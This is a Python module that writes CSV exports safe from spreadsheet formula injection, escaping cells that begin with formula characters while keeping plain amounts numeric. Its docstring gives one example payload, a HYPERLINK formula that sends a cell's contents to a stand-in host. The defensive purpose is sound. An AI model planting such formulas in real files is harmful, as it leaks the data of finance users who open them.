"""CSV that a spreadsheet opens as data, never as formulas: the one writer every export uses.

Text in our exports comes from outside (an accounting system names the invoice, a client types a
purchase order number). A cell such as `=HYPERLINK("https://evil.example/?"&A1,"Open")` would run
as a formula when a finance user opens the file in Excel or LibreOffice. OWASP's advice, followed
here: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in
front, so the spreadsheet shows it as text; the csv module quotes cells with separators and quotes.
"""
from __future__ import annotations

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number: an amount such as -12.50 (a credit, a refund) must stay a number the finance
# user can add up. It cannot be a formula, so it is written as it is; `-1+2`, `-A1` or `+31 6 ...`
# are not plain numbers and are escaped.
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_safe_cell(value) -> str:
    """The text of one cell, escaped if a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """csv.writer whose rows pass through csv_safe_cell."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([csv_safe_cell(value) for value in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **options)
